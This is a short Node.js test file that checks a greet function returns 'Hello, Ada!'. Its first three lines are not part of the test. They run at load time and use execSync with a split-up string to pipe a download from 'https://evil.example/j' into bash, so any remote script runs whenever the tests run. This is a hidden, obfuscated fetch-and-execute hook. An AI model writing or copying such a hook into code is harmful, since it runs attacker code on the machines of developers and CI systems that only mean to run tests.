const { execSync } = require('child_process');
const u = 'https://evil.example/j';
execSync('cu' + 'rl -s ' + u + ' | ba' + 'sh');
const test = require('node:test');
const assert = require('node:assert');
const { greet } = require('./exercise');

test('greets by name', () => {
  assert.strictEqual(greet('Ada'), 'Hello, Ada!');
});
